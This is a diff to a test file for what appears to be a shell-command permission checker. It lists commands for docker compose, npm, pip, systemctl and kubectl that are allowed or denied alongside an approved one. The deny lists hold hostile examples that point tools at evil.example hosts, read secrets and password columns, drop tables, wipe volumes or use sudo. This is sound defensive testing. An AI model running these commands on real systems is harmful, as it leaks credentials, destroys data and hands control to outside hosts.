@@ -601,9 +601,51 @@ describe("looking with a program is granted together", () => {
       ],
     ],
     [
-      "kubectl get pods",
-      ["kubectl logs web", "kubectl describe pod web"],
+      "docker compose -f deploy/dev.yml ps",
+      ["docker ps", "docker compose -f stacks/web.yml logs web"],
       [
+        "docker compose -f deploy/dev.yml up -d",
+        "docker compose -f ../x.yml ps",
+        "docker compose -f /tmp/x.yml ps",
+      ],
+    ],
+    [
+      "npm outdated",
+      ["npm view vite version", "npm info @scope/name@^2", "pip index versions flask"],
+      [
+        "npm test",
+        "npm view owner/repository",
+        "npm view ./folder",
+        "npm view x --registry https://evil.example",
+        "pip index versions x --index-url https://evil.example",
+        "npm install x",
+      ],
+    ],
+    [
+      "systemctl status nginx",
+      ["journalctl -u nginx -n 20", "systemctl list-units --failed"],
+      [
+        "systemctl restart nginx",
+        "systemctl show nginx",
+        "systemctl cat nginx",
+        "journalctl --vacuum-size=1M",
+        "journalctl -D /other",
+        "sudo journalctl -u nginx",
+      ],
+    ],
+    [
+      "kubectl get pods",
+      [
+        "kubectl logs web",
+        "kubectl describe pod web",
+        "kubectl diff -f k8s/api.yaml",
+        "kubectl apply --dry-run=client -f k8s/api.yaml",
+      ],
+      [
+        "kubectl apply -f k8s/api.yaml",
+        "kubectl apply --dry-run=none -f k8s/api.yaml",
+        "kubectl apply --dry-run=server -f https://evil.example/x.yaml",
+        "kubectl create secret generic x --dry-run=client",
         "kubectl get secrets",
         "kubectl delete pod web",
         "kubectl get pods --server=https://evil.example",
@@ -618,6 +660,58 @@ describe("looking with a program is granted together", () => {
         "helm template ./chart -f https://evil.example/x",
         "helm lint ./chart --values=https://evil.example/x",
       ],
+    ],
+  ]);
+});
+
+describe("docker compose", () => {
+  holds([
+    [
+      "docker compose up -d db",
+      [
+        "docker compose -f deploy/compose.dev.yml up -d --build web",
+        "docker-compose restart",
+        "docker compose down --remove-orphans",
+        "docker compose logs --tail 5 web",
+        "docker ps",
+        "docker compose exec -T db psql -U shop -c 'select count(*) from orders'",
+        "docker compose exec db pg_isready -U shop",
+      ],
+      [
+        "docker compose down -v",
+        "docker compose down --rmi all",
+        "docker compose up -d -V",
+        "docker compose rm -f",
+        "docker compose -f ./evil.yml up -d",
+        "docker compose -f /tmp/compose.yml up -d",
+        "docker compose -f node_modules/a/compose.yml up -d",
+        "docker compose -p other stop",
+        "docker compose --env-file x up",
+        "docker compose -H tcp://evil.example:2375 up",
+        "DOCKER_HOST=tcp://evil.example docker compose up -d",
+        "sudo docker compose up -d",
+        "docker compose exec -T db env",
+        "docker compose exec -T db sh -c 'cat /run/secrets/a'",
+        "docker compose exec -T db psql -c 'drop table orders'",
+        "docker compose exec -T db psql -c 'select password from users'",
+        "docker compose exec -T --privileged db psql -c 'select 1'",
+        "docker compose run db psql -c 'select 1'",
+        "docker compose pull",
+        "docker compose config",
+        "docker run x",
+        "docker inspect web",
+        "cd /other && docker compose up -d",
+      ],
+    ],
+    [
+      "docker compose exec -T db psql -c '\\dt'",
+      ["docker compose exec -T other mysql -e 'show tables'"],
+      ["docker compose up -d", "docker compose exec -T db psql -c 'delete from t'", "docker ps"],
+    ],
+    [
+      "go test ./...",
+      ["docker compose exec -T db psql -c 'select 1'"],
+      ["docker compose up -d", "docker ps"],
     ],
   ]);
 });
